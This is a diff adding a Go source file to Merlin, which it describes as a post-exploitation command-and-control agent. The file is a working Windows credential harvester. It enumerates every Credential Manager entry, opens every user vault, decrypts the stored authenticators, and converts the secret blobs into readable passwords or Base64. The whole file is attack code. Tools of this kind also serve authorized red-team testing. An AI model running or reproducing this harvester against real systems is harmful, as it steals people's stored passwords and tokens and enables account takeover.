@@ -0,0 +1,214 @@
+//go:build windows
+
+/*
+Merlin is a post-exploitation command and control framework.
+
+This file is part of Merlin.
+Copyright (C) 2023 Russel Van Tuyl
+
+Merlin is free software: you can redistribute it and/or modify
+it under the terms of the GNU General Public License as published by
+the Free Software Foundation, either version 3 of the License, or
+any later version.
+
+Merlin is distributed in the hope that it will be useful,
+but WITHOUT ANY WARRANTY; without even the implied warranty of
+MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+GNU General Public License for more details.
+
+You should have received a copy of the GNU General Public License
+along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+*/
+
+package commands
+
+import (
+	// Standard
+	"encoding/base64"
+	"fmt"
+	"strings"
+	"time"
+	"unicode"
+	"unicode/utf16"
+	"unicode/utf8"
+	"unsafe"
+
+	// X Packages
+	"golang.org/x/sys/windows"
+
+	// Internal
+	"github.com/Ne0nd0g/merlin-agent/v2/os/windows/api/advapi32"
+	"github.com/Ne0nd0g/merlin-agent/v2/os/windows/api/vaultcli"
+)
+
+// vaultNames are the well-known vault schema GUIDs
+var vaultNames = map[string]string{
+	"{4BF4C442-9B8A-41A0-B380-DD4A704DDB28}": "Web Credentials",
+	"{77BC582B-F0A6-4E15-4E80-61736B6F3B29}": "Windows Credentials",
+	"{E69D7838-91B5-4FC9-89D5-230D4D4CC2BC}": "Windows Domain Certificate Credential",
+	"{3E0E35BE-1B77-43E7-B873-AED901B6275B}": "Windows Domain Password Credential",
+	"{3C886FF3-2669-4AA2-A8FB-3F6759A77548}": "Windows Extended Credential",
+}
+
+// credentialManager returns the credentials in the user's Credential Manager. Domain password credentials are only
+// readable by the LSA, so they are returned without a secret
+func credentialManager() (credentials []storedCredential, err error) {
+	creds, buffer, err := advapi32.CredEnumerate(nil, advapi32.CRED_ENUMERATE_ALL_CREDENTIALS)
+	if err != nil {
+		return nil, err
+	}
+	if buffer != nil {
+		defer advapi32.CredFree(buffer)
+	}
+	for _, cred := range creds {
+		credential := storedCredential{
+			Store:   "credman",
+			Type:    credentialType(cred.Type),
+			Target:  windows.UTF16PtrToString(cred.TargetName),
+			User:    windows.UTF16PtrToString(cred.UserName),
+			Comment: windows.UTF16PtrToString(cred.Comment),
+			Persist: credentialPersist(cred.Persist),
+			Written: normalizeTime(time.Unix(0, cred.LastWritten.Nanoseconds())),
+		}
+		if cred.CredentialBlob != nil && cred.CredentialBlobSize > 0 {
+			credential.Secret = credentialSecret(unsafe.Slice(cred.CredentialBlob, cred.CredentialBlobSize))
+		}
+		credentials = append(credentials, credential)
+	}
+	return
+}
+
+// windowsVault returns the items, with their decrypted authenticators, in every vault the user can open. The Windows 8
+// and later VaultGetItem signature is used
+func windowsVault() (credentials []storedCredential, err error) {
+	vaults, buffer, err := vaultcli.VaultEnumerateVaults()
+	if err != nil {
+		return nil, err
+	}
+	defer vaultcli.VaultFree(buffer)
+
+	var errs []string
+	for i := range vaults {
+		name := vaults[i].String()
+		if known, ok := vaultNames[strings.ToUpper(name)]; ok {
+			name = known
+		}
+		found, err := vaultItems(&vaults[i], name)
+		credentials = append(credentials, found...)
+		if err != nil {
+			errs = append(errs, fmt.Sprintf("%s: %s", name, err))
+		}
+	}
+	if len(errs) > 0 {
+		err = fmt.Errorf("there were errors reading the vaults:\n%s", strings.Join(errs, "\n"))
+	}
+	return
+}
+
+// vaultItems returns the items in the vault
+func vaultItems(vault *windows.GUID, name string) (credentials []storedCredential, err error) {
+	handle, err := vaultcli.VaultOpenVault(vault)
+	if err != nil {
+		return nil, err
+	}
+	defer vaultcli.VaultCloseVault(handle)
+
+	items, buffer, err := vaultcli.VaultEnumerateItems(handle)
+	if err != nil {
+		return nil, err
+	}
+	if buffer != nil {
+		defer vaultcli.VaultFree(buffer)
+	}
+
+	for i := range items {
+		credential := storedCredential{
+			Store:   name,
+			Type:    "vault",
+			Target:  items[i].Resource.String(),
+			User:    items[i].Identity.String(),
+			Comment: windows.UTF16PtrToString(items[i].FriendlyName),
+			Written: normalizeTime(time.Unix(0, items[i].LastWritten.Nanoseconds())),
+		}
+		// The enumerated item doesn't include the authenticator, which is decrypted by getting the item
+		item, errGet := vaultcli.VaultGetItem(handle, &items[i])
+		if errGet != nil {
+			err = errGet
+		} else {
+			// Passwords are strings while other authenticators are byte arrays
+			if item.Authenticator != nil && item.Authenticator.Type == vaultcli.ElementTypeString {
+				credential.Secret = item.Authenticator.String()
+			} else {
+				credential.Secret = credentialSecret([]byte(item.Authenticator.String()))
+			}
+			vaultcli.VaultFree(unsafe.Pointer(item))
+		}
+		credentials = append(credentials, credential)
+	}
+	return
+}
+
+// credentialSecret returns the credential blob as text when it is a UTF-16 or UTF-8 string, which is how passwords are
+// stored, and otherwise as Base64
+func credentialSecret(blob []byte) string {
+	if len(blob) == 0 {
+		return ""
+	}
+	if len(blob)%2 == 0 {
+		wide := make([]uint16, len(blob)/2)
+		for i := range wide {
+			wide[i] = uint16(blob[2*i]) | uint16(blob[2*i+1])<<8
+		}
+		if text := string(utf16.Decode(wide)); printable(strings.TrimRight(text, "\x00")) {
+			return strings.TrimRight(text, "\x00")
+		}
+	}
+	if text := string(blob); utf8.ValidString(text) && printable(text) {
+		return text
+	}
+	return base64.StdEncoding.EncodeToString(blob)
+}
+
+// printable returns true if the text is made up of printable characters and whitespace
+func printable(text string) bool {
+	for _, r := range text {
+		if r == utf8.RuneError || (!unicode.IsPrint(r) && !unicode.IsSpace(r)) {
+			return false
+		}
+	}
+	return text != ""
+}
+
+// credentialType converts a Credential Manager credential type to a string
+func credentialType(t uint32) string {
+	switch t {
+	case advapi32.CRED_TYPE_GENERIC:
+		return "generic"
+	case advapi32.CRED_TYPE_DOMAIN_PASSWORD:
+		return "domain-password"
+	case advapi32.CRED_TYPE_DOMAIN_CERTIFICATE:
+		return "domain-certificate"
+	case advapi32.CRED_TYPE_DOMAIN_VISIBLE_PASSWORD:
+		return "domain-visible-password"
+	case advapi32.CRED_TYPE_GENERIC_CERTIFICATE:
+		return "generic-certificate"
+	case advapi32.CRED_TYPE_DOMAIN_EXTENDED:
+		return "domain-extended"
+	default:
+		return fmt.Sprintf("unknown(%d)", t)
+	}
+}
+
+// credentialPersist converts a Credential Manager persistence value to a string
+func credentialPersist(persist uint32) string {
+	switch persist {
+	case advapi32.CRED_PERSIST_SESSION:
+		return "session"
+	case advapi32.CRED_PERSIST_LOCAL_MACHINE:
+		return "local-machine"
+	case advapi32.CRED_PERSIST_ENTERPRISE:
+		return "enterprise"
+	default:
+		return ""
+	}
+}